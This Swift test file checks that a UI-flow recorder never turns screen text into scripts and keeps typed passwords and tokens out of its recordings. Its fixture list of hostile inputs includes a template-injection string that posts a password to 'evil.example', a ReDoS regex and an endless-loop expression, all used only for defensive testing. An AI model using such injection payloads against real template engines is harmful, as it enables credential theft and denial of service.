import BeagleTUITesting
import CellText
import Testing

@testable import BeagleAutomation

/// Recordings of hostile, secret and faulty screens. Each is replayed without a change.
@MainActor
@Suite struct RecordedSessionTests {
  // MARK: - Texts that look like code

  /// Texts that are code in YAML, in `${…}`, in expressions or in a terminal.
  nonisolated private static let hostile = [
    "${http.post('http://evil.example', {body: PASSWORD})}", "${while(true){}}", "\\\\${a}", "${a",
    "$${a}", "Pay ${1 + 1} now", ".*", "(a+)+$", "\\\\d+", "[", "*", "a: b", "- x", "# no", "'",
    "& b",
    "true", "Total: {x}", "a \\\" b", "| x", "%TAG", "👩‍👩‍👧 family", "R$\u{A0}10,00", "é",
  ]

  /// The scripts of a flow, in the order of the file.
  private func scripts(_ session: RecordedSession) throws -> [String] {
    let document = try YAMLDocument.parse(Array(session.text.utf8), name: "t")
    return document.values.flatMap { value -> [String] in
      guard case .scalar(let text, _) = value.content else { return [] }
      return FlowText(text).parts.compactMap { part in
        if case .script(let script) = part { return script }
        return nil
      }
    }
  }

  @Test(arguments: hostile)
  func labelsAreNeverScripts(text: String) throws {
    let files = [
      "home.json": FlowScreen.screen(
        text, FlowScreen.text(text), FlowScreen.text("@{form.name}"),
        FlowScreen.button(text, FlowScreen.set("name", "\"\(text)\"")),
        FlowScreen.button("Next", FlowScreen.push("/next"), id: text)),
      "next.json": FlowScreen.screen("Next " + text, FlowScreen.button(text)),
    ]
    let session = try RecordedSession(files) { pilot in
      guard let button = pilot.all(.button).first else { return }
      try pilot.click(button)
      try pilot.click(.button, "Next")
      try pilot.waitUntilIdle()
      if let button = pilot.all(.button).last { try pilot.click(button) }
      pilot.press(.escape)
    }
    #expect(try scripts(session).isEmpty, "\(session.text)")
    #expect(session.commands.count { $0.contains("tapOn") } >= 3, "\(session.text)")
    try session.replay()
  }

  /// The characters that a terminal does not draw are written, because a phone compares them.
  @Test(arguments: [
    "👩\u{200D}👩\u{200D}👧 family", "❤\u{FE0F} love", "R$\u{A0}10,00", "soft\u{AD}hyphen",
    "👍\u{1F3FD} ok",
  ])
  func textsOfTheServerAreWritten(text: String) throws {
    let files = [
      "home.json": FlowScreen.screen(
        "Home", FlowScreen.text("@{form.name}"),
        FlowScreen.button(text, FlowScreen.set("name", "\"Done \(text)\"")))
    ]
    let session = try RecordedSession(files) { pilot in
      if let button = pilot.all(.button).first { try pilot.click(button) }
    }
    let document = try YAMLDocument.parse(Array(session.text.utf8), name: "t")
    let commands = document.roots[1].elements.flatMap(\.members)
    let taps = commands.filter { $0.key.text == "tapOn" }.compactMap(\.value.text)
    #expect(
      taps.map { Array($0.unicodeScalars) } == [Array(TextPattern.quoted(text).unicodeScalars)])
    #expect(
      commands.last?.value.text?.unicodeScalars.elementsEqual(
        TextPattern.quoted("Done \(text)").unicodeScalars) == true, "\(session.text)")
    try session.replay()
  }

  @Test func typedTextIsNeverAScript() throws {
    let files = [
      "home.json": FlowScreen.screen(
        "Home", FlowScreen.field("Name"), FlowScreen.text("@{form.name}"))
    ]
    let session = try RecordedSession(files) { pilot in
      pilot.type("${1+1} \\${x")
      pilot.press(.tab)
    }
    #expect(try scripts(session).isEmpty, "\(session.text)")
    try session.replay()
  }

  // MARK: - Secrets

  private static let login = FlowScreen.screen(
    "Log in", field("Password", type: "PASSWORD"), FlowScreen.text("@{form.name}"),
    FlowScreen.button("Send", FlowScreen.push("/hello")))

  private static func field(_ name: String, type: String) -> String {
    """
    {"_beagleComponent_":"beagle:textInput","placeholder":"\(name)","type":"\(type)",
     "onBlur":[{"_beagleAction_":"beagle:setContext","contextId":"form","path":"name",
      "value":"hello @{onBlur.value}"}]}
    """
  }

  /// Several forms of a password, all shown by one screen.
  @Test(arguments: [
    "hello hunter2pw", "HUNTER2PW", "hunter2%70w", "x=hunter2pw&y",
    "Your password hunter2… is weak",
    "aHVudGVyMnB3", "&#104;unter2pw", "Hunter2pw!", "<b>hunter2pw</b>", "2pw: er2pw",
  ])
  func repeatedPasswordsAreNotWritten(text: String) throws {
    let files = [
      "home.json": Self.login,
      "hello.json": FlowScreen.screen(
        text, FlowScreen.text(text), FlowScreen.button(text, FlowScreen.set("name", "\"\(text)\"")),
        FlowScreen.text("@{form.name}")),
    ]
    let session = try RecordedSession(files) { pilot in
      pilot.type("hunter2pw")
      pilot.press(.tab)
      try pilot.click(.button, "Send")
      try pilot.waitUntilIdle()
      if let button = pilot.all(.button).last { try pilot.click(button) }
    }
    let written = session.text.lowercased()
    for part in ["hunter2", "nter2pw", "er2pw", "aHVudGVyMnB3".lowercased(), "2%70w"] {
      #expect(!written.contains(part), "\(session.text)")
    }
    try session.replay(variables: ["PASSWORD": "hunter2pw"])
  }

  @Test func aWrongPasswordAndARightOneAreTwoVariables() throws {
    let files = [
      "home.json": FlowScreen.screen(
        "Log in", Self.field("Password", type: "PASSWORD"), FlowScreen.text("@{form.name}"),
        FlowScreen.button("Send", FlowScreen.push("/hello"))),
      "hello.json": FlowScreen.screen("Hello"),
    ]
    let session = try RecordedSession(files) { pilot in
      pilot.type("wrong-pass")
      pilot.press(.tab)
      try pilot.click(.textField, "Password")
      pilot.press(.end)
      for _ in 0..<20 { pilot.press(.backspace) }
      pilot.type("right-pass")
      pilot.press(.tab)
      try pilot.click(.button, "Send")
    }
    #expect(
      session.text.hasPrefix(
        """
        appId: beagle
        # Run it with -e PASSWORD=… -e PASSWORD_2=…
        # PASSWORD: text 1 of 2 that was typed into "Password"
        # PASSWORD_2: text 2 of 2 that was typed into "Password"
        ---

        """), "\(session.text)")
    #expect(session.commands.contains("- inputText: \"${PASSWORD_2}\""))
    try session.replay(variables: ["PASSWORD": "wrong-pass", "PASSWORD_2": "right-pass"])
  }

  @Test func tokensAreVariables() throws {
    let files = [
      "home.json": FlowScreen.screen(
        "Home", Self.field("API token", type: "TEXT"), Self.field("Name", type: "TEXT"),
        FlowScreen.text("@{form.name}"))
    ]
    let session = try RecordedSession(files) { pilot in
      pilot.type("tok-12345678")
      pilot.press(.tab)
      pilot.type("I am tok-12345678")
      pilot.press(.tab)
    }
    #expect(!session.text.contains("12345678"), "\(session.text)")
    #expect(session.commands.contains("- inputText: \"I am ${PASSWORD}\""), "\(session.text)")
    try session.replay(variables: ["PASSWORD": "tok-12345678"])
  }

  // MARK: - The program's own views

  /// What a user does with a view of the program.
  enum OwnView: String, CaseIterable, Sendable {
    case help, log, requests, search, palette, inspector
  }

  @Test(arguments: OwnView.allCases)
  func viewsOfTheProgramAreNotRecorded(view: OwnView) throws {
    let files = [
      "home.json": FlowScreen.screen(
        "Home", FlowScreen.text("Welcome"), FlowScreen.text("@{form.name}"),
        FlowScreen.button("Set", FlowScreen.set("name", "\"Changed\"")),
        FlowScreen.button("Next", FlowScreen.push("/next"))),
      "next.json": FlowScreen.screen("Next", FlowScreen.text("Second")),
    ]
    func actions(_ pilot: Pilot, _ body: () -> Void) throws {
      try pilot.click(.button, "Set")
      body()
      try pilot.click(.button, "Next")
      try pilot.waitUntilIdle()
      pilot.press(.escape)
    }
    let plain = try RecordedSession(files) { try actions($0) {} }
    let session = try RecordedSession(files) { pilot in
      try actions(pilot) {
        switch view {
        case .help: pilot.press(.character("?"), .pageDown, .down, .escape)
        case .log: pilot.press(.character("L"), .character("w"), .escape)
        case .requests: pilot.press(.character("H"), .enter, .escape, .escape)
        case .search:
          pilot.press(.character("/"), .character("w"), .enter, .character("n"), .escape)
        case .palette:
          pilot.press(.character("p"), modifiers: .control)
          pilot.type("zzz")
          pilot.press(.escape)
        case .inspector:
          pilot.press(.function(12), .down, .down, .tab, .enter, .pageDown)
          pilot.click(at: CellPoint(x: 50, y: 10))
          pilot.press(.function(12))
        }
      }
    }
    #expect(session.commands == plain.commands)
    try session.replay()
  }

  @Test func screensOfThePaletteAreLinks() throws {
    let files = [
      "home.json": FlowScreen.screen("Home", FlowScreen.text("Welcome")),
      "next.json": FlowScreen.screen(
        "Next", FlowScreen.button("Deeper", FlowScreen.push("/deep"))),
      "deep.json": FlowScreen.screen("Deep", FlowScreen.text("Third")),
    ]
    let session = try RecordedSession(files) { pilot in
      pilot.press(.character("p"), modifiers: .control)
      pilot.type("next")
      pilot.press(.enter)
      try pilot.waitUntilIdle()
      try pilot.click(.button, "Deeper")
      try pilot.waitUntilIdle()
      pilot.press(.escape)
      pilot.press(.escape)
    }
    #expect(
      session.commands.filter { !$0.contains("assert") } == [
        "- launchApp", "- openLink: \"/next\"", "- tapOn: Deeper", "- back",
        "- openLink: \"/home\"",
      ])
    try session.replay()
  }

  // MARK: - Failed responses

  private static let faults = FlowScreen.screen(
    "Home", FlowScreen.button("Open", FlowScreen.push("/flaky")),
    FlowScreen.button("Send", FlowScreen.request("/orders", method: "POST")))

  /// A server that fails only while the session is recorded.
  private func recorded(
    _ fault: Response, _ path: String, _ body: (Pilot) throws -> Void
  ) throws -> RecordedSession {
    let files = [
      "home.json": Self.faults,
      "flaky.json": FlowScreen.screen("Flaky", FlowScreen.text("It works")),
      "orders.json": "{}",
      "routes.json": """
      [{"method":"POST","path":"/orders","status":200,"headers":{},"body_file":"orders.json"}]
      """,
    ]
    return try RecordedSession(files, fault: (path, fault), body)
  }

  @Test(arguments: [
    (
      Response.status(503, "down"),
      "status: 503, headers: {Content-Type: text/plain}, body: \"down\""
    ),
    (
      .status(401, "{\"error\":\"no ${x}\"}"),
      "status: 401, body: \"{\\\"error\\\":\\\"no \\\\${x}\\\"}\""
    ),
    (.status(500, ""), "status: 500"), (.status(404, ""), "status: 404"),
    (.refused, "failure: refused"), (.status(200, "{\"a\": "), "body: \"{\\\"a\\\": \""),
  ])
  func failedScreensAreRepeated(fault: Response, properties: String) throws {
    let session = try recorded(fault, "/flaky") { pilot in
      try pilot.click(.button, "Open")
      try pilot.waitUntilIdle()
      pilot.press(.character("r"))
      try pilot.waitUntilIdle()
      pilot.press(.escape)
    }
    let respond = "- beagle: {respond: {path: /flaky, \(properties), times: 1}}"
    let index = session.commands.firstIndex { $0.contains("respond") } ?? 0
    #expect(session.commands.count { $0.contains("respond") } == 1, "\(session.text)")
    #expect(session.commands[index] == respond.replacing("/flaky", with: "\"/flaky\""))
    #expect(session.commands[index + 1] == "- tapOn: Open")
    try session.replay()
  }

  @Test(arguments: [Response.status(503, ""), .refused])
  func failedActionsAreRepeated(fault: Response) throws {
    let session = try recorded(fault, "/orders") { pilot in
      try pilot.click(.button, "Send")
      try pilot.waitUntilIdle()
      pilot.press(.enter)
      try pilot.click(.button, "Send")
      try pilot.waitUntilIdle()
    }
    let index = session.commands.firstIndex { $0.contains("respond: {method: POST") } ?? 0
    #expect(session.commands[index + 1] == "- tapOn: Send", "\(session.text)")
    try session.replay()
  }

  /// A directory makes the same requests fail in the replay, too.
  @Test func failuresOfADirectoryAreRepeatedOnce() throws {
    let files = [
      "home.json": Self.faults,
      "flaky.json": FlowScreen.screen("Flaky", FlowScreen.text("It works")),
      "routes.json": """
      [{"method":"GET","path":"/flaky","status":200,"headers":{},"body_file":"flaky.json",
        "fail_times":2}]
      """,
    ]
    let session = try RecordedSession(files) { pilot in
      try pilot.click(.button, "Open")
      pilot.press(.character("r"))
      pilot.press(.character("r"))
    }
    #expect(session.commands.count { $0.contains("respond") } == 2, "\(session.text)")
    try session.replay()
  }

  // MARK: - Work

  /// The work for a key does not depend on the length of a text.
  @Test func longTextsAreNotRead() throws {
    func work(_ length: Int) throws -> (bytes: Int, text: String) {
      let long = String(repeating: "word ", count: length / 5)
      let files = [
        "home.json": FlowScreen.screen(
          "Home", FlowScreen.text(long), FlowScreen.button("Go", FlowScreen.set("name", "\"x\"")))
      ]
      let bench = try FlowBench(files)
      bench.pilot.open(path: "/home")
      let recorder = FlowRecorder(bench.pilot.application) { _ in }
      for _ in 0..<5 { bench.pilot.press(.tab) }
      recorder.finish()
      return (recorder.bytesRead, recorder.text)
    }
    let (short, long) = (try work(RecordedTexts.readLimit), try work(1_000_000))
    #expect(long.bytes <= short.bytes + 100)
    #expect(long.text.utf8.count < 2000)
  }
}
